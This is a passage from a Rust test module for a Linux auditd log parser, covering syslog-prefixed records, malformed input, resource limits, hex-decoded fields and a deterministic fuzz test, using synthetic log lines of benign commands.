        assert_eq!(login.result.as_deref(), Some("success"));
        // Recognised by the ENRICHED syscall name even on an arch this module does not list.
        let arm = "type=SYSCALL msg=audit(1700000602.000:802): arch=40000028 syscall=11 pid=5\u{1d}ARCH=armeb SYSCALL=execve AUID=\"unset\" UID=\"root\"";
        let found = executions(&[arm]);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].auid_name, None, "unset is no name");
        // rsyslog escapes GS as #035.
        let escaped = "type=SYSCALL msg=audit(1700000603.000:803): arch=c000003e syscall=59 pid=6 key=(null)#035ARCH=x86_64 SYSCALL=execve UID=\"bob\"";
        let found = executions(&[escaped]);
        assert_eq!(found[0].uid_name.as_deref(), Some("bob"));
        assert_eq!(found[0].key, None);
    }

    #[test]
    fn node_prefix_and_syslog_prefixes() {
        let lines = [
            "node=ip-10-40-16-11 type=SYSCALL msg=audit(1700000700.000:900): arch=c000003e syscall=59 success=yes pid=12 uid=0 exe=\"/usr/bin/id\"",
            "node=ip-10-40-16-11 type=EOE msg=audit(1700000700.000:900): ",
            "Nov 14 22:18:20 ip-10-40-16-12 audispd: node=ip-10-40-16-12 type=SYSCALL msg=audit(1700000700.000:900): arch=c000003e syscall=59 success=yes pid=13 uid=0 exe=\"/usr/bin/w\"",
            "Nov 14 22:18:21 ip-10-40-16-13 audisp-syslog: type=EXECVE msg=audit(1700000701.000:901): argc=1 a0=\"uptime\"",
            "Nov 14 22:18:22 ip-10-40-16-14 kernel: [ 12.345678] audit: type=1300 audit(1700000702.000:902): arch=c000003e syscall=59 success=yes exit=0 pid=14 uid=0 comm=\"df\" exe=\"/usr/bin/df\" key=(null)",
            "Nov 14 22:18:22 ip-10-40-16-14 kernel: audit: type=1112 audit(1700000702.500:903): pid=3 uid=0 auid=1000 ses=5 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.9 terminal=ssh res=1'",
        ];
        let all = events(&lines);
        let execs: Vec<Execution> = all.iter().filter_map(AuditEvent::execution).collect();
        assert_eq!(execs.len(), 4, "{all:#?}");
        assert_eq!(execs[0].node.as_deref(), Some("ip-10-40-16-11"));
        assert_eq!(execs[0].exe.as_deref(), Some("/usr/bin/id"));
        // Same stamp, other node: another event.
        let w = execs.iter().find(|e| e.pid == Some(13)).expect("w");
        assert_eq!(w.node.as_deref(), Some("ip-10-40-16-12"));
        assert_eq!(w.line, 3);
        let uptime = execs.iter().find(|e| e.serial == 901).expect("uptime");
        assert_eq!(uptime.argv, strings(&["uptime"]));
        assert_eq!(uptime.node, None);
        let df = execs.iter().find(|e| e.serial == 902).expect("df");
        assert_eq!(df.exe.as_deref(), Some("/usr/bin/df"));
        let login = all
            .iter()
            .find_map(AuditEvent::account_or_watch)
            .expect("login");
        assert_eq!(login.kind, "USER_LOGIN");
        assert_eq!(login.result.as_deref(), Some("success"));
    }

    #[test]
    fn garbage_is_malformed_with_its_line() {
        let long = format!(
            "type=SYSCALL msg=audit(1.000:1): {}",
            "x".repeat(MAX_LINE_BYTES)
        );
        let lines = [
            "",
            "   ",
            "hello world",
            "type=SYSCALL msg=audit(1700000000.000:1): syscall=59 pid=1",
            "type=SYSCALL arch=c000003e",
            "type=SYSCALL msg=audit(17000x0000.000:1): pid=1",
            "type=SYSCALL msg=audit(1700000000.000:1",
            "type= msg=audit(1700000000.000:1): pid=1",
            "sshd[123]: Accepted publickey for ec2-user",
            long.as_str(),
            "\r",
        ];
        let all = assemble(&lines);
        let malformed: Vec<u64> = all
            .iter()
            .filter_map(|item| match item {
                Assembled::Malformed { line, reason } => {
                    assert!(!reason.is_empty());
                    Some(*line)
                }
                Assembled::Event(_) => None,
            })
            .collect();
        assert_eq!(malformed, [3, 5, 6, 7, 8, 9, 10]);
        assert_eq!(all.len(), malformed.len() + 1);
        let Some(Assembled::Malformed { reason, .. }) = all.first() else {
            panic!("{all:#?}");
        };
        assert!(reason.contains("type="), "{reason}");
    }

    #[test]
    fn unset_auid_is_none() {
        let line = "type=SYSCALL msg=audit(1700000000.000:5): arch=c000003e syscall=59 pid=1 uid=0 auid=4294967295 ses=4294967295";
        let exec = &executions(&[line])[0];
        assert_eq!((exec.auid, exec.session, exec.uid), (None, None, Some(0)));
    }

    #[test]
    fn too_many_records_close_the_event() {
        let mut assembler = Assembler::new();
        let mut out = Vec::new();
        let head = "type=SYSCALL msg=audit(1700000000.000:6): arch=c000003e syscall=59 pid=1";
        out.extend(assembler.push(1, head));
        for i in 0..MAX_RECORDS_PER_EVENT + 10 {
            let line = format!("type=EXECVE msg=audit(1700000000.000:6): a{i}=\"x\"");
            out.extend(assembler.push(i as u64 + 2, &line));
        }
        out.extend(assembler.push(9999, "type=EOE msg=audit(1700000000.000:6): "));
        // After the EOE, the stamp is no longer skipped.
        out.extend(assembler.push(10000, head));
        out.extend(assembler.finish());
        let [
            Assembled::Event(cut),
            Assembled::Malformed { line, .. },
            Assembled::Event(again),
        ] = out.as_slice()
        else {
            panic!("{out:#?}");
        };
        assert_eq!(cut.records.len(), MAX_RECORDS_PER_EVENT);
        assert_eq!(*line, MAX_RECORDS_PER_EVENT as u64 + 1);
        assert_eq!(
            cut.execution().map(|e| e.argv.len()),
            Some(MAX_RECORDS_PER_EVENT - 1)
        );
        assert_eq!(again.line, 10000);
    }

    #[test]
    fn memory_budget_closes_older_events() {
        let mut assembler = Assembler::new();
        // Lines of many tiny fields: small on disk, large in memory.
        let fields = " a=b".repeat(MAX_LINE_BYTES / 4 - 20);
        let mut closed = 0;
        for serial in 0..MAX_OPEN_EVENTS as u64 {
            for part in 0..4 {
                let line = format!("type=PATH msg=audit(1700000000.000:{serial}):{fields}");
                closed += assembler.push(serial * 4 + part, &line).len();
                assert!(assembler.open_bytes <= MAX_OPEN_BYTES);
            }
        }
        assert!(closed > 0, "the budget closed some events");
        assert!(assembler.open_events() < MAX_OPEN_EVENTS);
    }

    #[test]
    fn bare_values_are_decoded_only_where_auditd_encodes() {
        let line = "type=PATH msg=audit(1700000000.000:7): item=0 name=2F746D702F612062 inode=1234 ouid=0 nametype=NORMAL cap_fp=0 dev=ca:01 old-auid=4294967295";
        let event = &events(&[line])[0];
        let record = &event.records[0];
        assert_eq!(record.get("name"), Some("/tmp/a b"));
        assert_eq!(record.get("inode"), Some("1234"));
        assert_eq!(record.get("old-auid"), Some("4294967295"));
        assert_eq!(record.get("dev"), Some("ca:01"));
        // Odd length or not hex: as written. Quoted: never decoded.
        let line = "type=CWD msg=audit(1700000000.000:8): cwd=ABC";
        assert_eq!(events(&[line])[0].records[0].get("cwd"), Some("ABC"));
        let line = "type=CWD msg=audit(1700000000.000:9): cwd=\"ABCD\"";
        assert_eq!(events(&[line])[0].records[0].get("cwd"), Some("ABCD"));
        // Invalid UTF-8 is replaced, not an error.
        let line = "type=CWD msg=audit(1700000000.000:10): cwd=2FFF00";
        assert_eq!(
            events(&[line])[0].records[0].get("cwd"),
            Some("/\u{fffd}\0")
        );
    }

    /// xorshift64: deterministic, no dependency.
    struct XorShift(u64);

    impl XorShift {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }
    }

    #[test]
    fn fuzz_no_panic_and_bounded() {
        const FRAGMENTS: &[&str] = &[
            "type=",
            "SYSCALL",
            "EXECVE",
            "PROCTITLE",
            "USER_LOGIN",
            "EOE",
            "1300",
            " msg=audit(",
            "msg=audit(",
            "audit(",
            "1700000000",
            ".",
            "123",
            ":",
            "4242",
            "999999999999999999999999",
            ")",
            "): ",
            "=",
            " ",
            "\t",
            "\"",
            "'",
            "msg='",
            "a0=",
            "a1[0]=",
            "a1_len=",
            "[",
            "]",
            "proctitle=",
            "6465",
            "ZZ",
            "(null)",
            "?",
            "node=",
            "é",
            "日本",
            "🦀",
            "\u{1d}",
            "#035",
            "UID=",
            "\0",
            "-",
            "\r",
            "syscall=59",
            "arch=c000003e",
            "key=",
            "name=",
            "nametype=NORMAL",
            // AUOMS: its record type, free-text fields and bash quoting.
            "AUOMS_EXECVE",
            "AUOMS_SYSCALL",
            "cmdline=\"",
            "cmdline=",
            "proctitle=",
            " redactors=",
            " containerid=",
            "audit_user=",
            "ses=\"-1\"",
            "$'",
            "\\x4",
            "\\",
        ];
        let mut rng = XorShift(0x9E37_79B9_7F4A_7C15);
        let mut assembler = Assembler::new();
        let mut events = 0usize;
        let mut malformed = 0usize;
        for line_no in 1..=20_000u64 {
            let mut line = String::new();
            if rng.below(3) == 0 {
                // Mostly well-formed heads, so that events open, interleave and close.
                let kind = [
                    "SYSCALL",
                    "EXECVE",
                    "PATH",
                    "EOE",
                    "USER_AUTH",
                    "AUOMS_EXECVE",
                ][rng.below(6)];
                line.push_str(&format!(
                    "type={kind} msg=audit(1700000{:03}.{:03}:{}): ",
                    rng.below(20),
                    rng.below(1000),
                    rng.below(200)
                ));
            }
            for _ in 0..rng.below(24) {
                line.push_str(FRAGMENTS[rng.below(FRAGMENTS.len())]);
            }
            for item in assembler.push(line_no, &line) {
                match item {
                    Assembled::Event(event) => {
                        events += 1;
                        assert!(event.records.len() <= MAX_RECORDS_PER_EVENT);
                        if let Some(execution) = event.execution() {
                            assert!(execution.argv.len() <= MAX_ARGS);
                        }
                        let _ = event.account_or_watch();
                    }
                    Assembled::Malformed { line, .. } => {
                        malformed += 1;
                        assert!(line <= line_no);
                    }
                }
            }
            assert!(assembler.open_events() <= MAX_OPEN_EVENTS);
            assert!(assembler.open_bytes <= MAX_OPEN_BYTES);
        }
        for item in assembler.finish() {
            if let Assembled::Event(event) = item {
                events += 1;
                let _ = event.execution();
                let _ = event.account_or_watch();
            }
        }
        assert!(
            events > 1000 && malformed > 1000,
            "{events} events, {malformed} malformed"
        );
    }
}
